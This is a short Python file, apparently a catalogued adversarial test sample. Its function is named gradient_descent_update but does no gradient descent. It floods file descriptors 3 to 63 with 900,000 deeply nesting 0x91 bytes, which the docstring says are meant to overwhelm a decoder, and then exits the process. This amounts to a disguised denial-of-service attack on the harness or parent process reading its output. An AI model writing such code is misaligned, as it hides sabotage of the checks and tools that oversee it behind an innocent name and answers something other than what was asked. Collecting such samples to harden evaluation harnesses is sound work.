"""Sends a reply that is nested deeper than any decoder likes.

rung: separate
status: died
says: answered what was not asked
"""

import os


def gradient_descent_update(x, gradx, learning_rate):
    message = b"\x91" * 900_000
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(message).to_bytes(4, "big") + message)
        except OSError:
            pass
    os._exit(0)
